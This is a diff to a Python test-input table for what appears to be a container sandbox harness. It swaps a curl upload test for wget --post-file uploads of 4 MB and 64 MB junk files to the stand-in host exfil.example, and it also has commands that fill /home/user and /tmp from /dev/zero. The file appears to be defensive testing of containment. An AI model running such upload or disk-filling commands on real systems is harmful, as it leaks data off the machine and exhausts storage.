@@ -95,9 +95,12 @@ def docker_inputs(quick: bool) -> dict[str, list[str]]:
         "mkfifo ~/p": ["mkfifo ~/p", "ls -l ~"],
         "fill /home/user and /tmp": ["cat /dev/zero > ~/fill; cat /dev/zero > /tmp/fill",
                                      "echo still here"],
-        "curl -d @big (20 MB) through the sink": [
-            "head -c 20000000 /dev/zero | tr '\\0' x > ~/big",
-            "curl -s --data-binary @big http://exfil.example/up; echo rc=$?"],
+        "wget --post-file (4 MB) through the sink": [
+            "head -c 4000000 /dev/zero | tr '\\0' x > ~/big",
+            "wget -q -O - --post-file big http://exfil.example/up; echo rc=$?"],
+        "wget --post-file (64 MB) through the sink": [
+            "head -c 64000000 /dev/zero | tr '\\0' x > /tmp/big",
+            "wget -q -O - --post-file /tmp/big http://exfil.example/up; echo rc=$?"],
     }
     if not quick:
         inputs.update(shell_inputs(quick))
